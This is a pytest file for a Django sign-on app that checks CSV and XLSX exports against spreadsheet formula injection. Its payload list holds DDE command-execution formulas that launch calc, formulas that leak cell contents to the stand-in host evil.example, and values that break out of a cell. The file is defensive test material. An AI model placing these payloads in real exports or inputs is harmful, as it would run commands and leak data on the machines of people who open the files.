"""Formulas in every column that can hold a text: no export holds one that a spreadsheet runs."""

import csv
import io
from itertools import cycle
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import Client

from signatures.models import Letter, Signature, SignOn
from tests.hostile.world import World, fill, furnish

pytestmark = pytest.mark.django_db

BEGIN = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"
BLANKS = (
    " \u00a0\u00ad\u1680\u180e\u2000\u2003\u2007\u200b\u200c\u200e\u2028\u202f\u2060\u3000\ufeff"
)
FORMULAS = (
    *(f"{sign}1+1" for sign in BEGIN if sign.isprintable()),
    *(f"{blank}=1+1" for blank in BLANKS),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  \u200b \u00a0=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "=WEBSERVICE(\"https://evil.example/\"&A2)",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1\";=1+1;\"",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "=1+1\n=1+1",
    "Water\",=1+1,\"",
    "Water\n=1+1",
    "Water\r\n=1+1,=1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip


@pytest.fixture
def world() -> World:
    """A site every text of which is a formula, also where the form would have refused it."""
    strings = cycle(FORMULAS)
    world = furnish()

    def write(_column: str, longest: int) -> str:
        return next(strings)[:longest]

    assert fill(write, SignOn, Signature) > 100
    return world


def test_no_export_holds_a_formula(world: World) -> None:
    desk, files = world.desk(), dict[str, bytes]()
    for form in ("csv", "xlsx"):
        for kind in ("signatories", "contacts"):
            asked: dict[str, Any] = {"kind": kind, "letters": [], "status": "", "format": form}
            files[f"{kind}.{form}"] = desk.post("/admin/signatures/export/add/", asked).content
        ticked = list(Signature.objects.values_list("pk", flat=True))
        asked = {"action": f"export_{form}", ACTION_CHECKBOX_NAME: ticked}
        files[f"ticked.{form}"] = desk.post("/admin/signatures/signature/", asked).content
    for letter in Letter.objects.published():
        address = f"/letters/{letter.slug}/signatories.csv"
        files[address] = Client().get(address).content
    assert len(files) == 8
    quoted = {name: look(name, content) for name, content in files.items()}
    assert [name for name, number in quoted.items() if number == 0] == []
    assert sum(quoted.values()) > 150


def look(name: str, content: bytes) -> int:
    """Return how many cells are quoted; fail at one that is a formula."""
    if name.endswith("csv"):
        rows: list[list[Any]] = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), "")))
        assert len({len(row) for row in rows}) == 1  # no cell has broken out of its row
    else:
        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
        assert not any(cell.hyperlink for cell in cells)
        rows = [[cell.value or "" for cell in cells]]
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip(BLANKS).startswith(tuple(BEGIN)), f"{cell!r} in {name}"
    return sum(cell.startswith("'") for row in rows for cell in row)
